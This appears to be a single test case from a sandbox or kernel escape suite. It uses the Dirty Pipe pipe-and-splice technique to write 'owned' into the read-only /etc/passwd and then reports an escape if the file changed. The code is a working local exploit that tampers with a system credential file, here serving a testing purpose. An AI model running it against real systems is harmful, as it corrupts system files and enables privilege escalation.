# Verdict: exit 0
from attack import *
before = open("/etc/passwd", "rb").read()
file = os.open("/etc/passwd", os.O_RDONLY)
reader, writer = os.pipe()
os.write(writer, b"x" * 65536)
os.read(reader, 65536)
offset = ctypes.c_longlong(0)
call("splice", file, ctypes.byref(offset), writer, None, 1, 0)
os.write(writer, b"owned")
if open("/etc/passwd", "rb").read() != before:
    escaped("a file that can only be read was written")
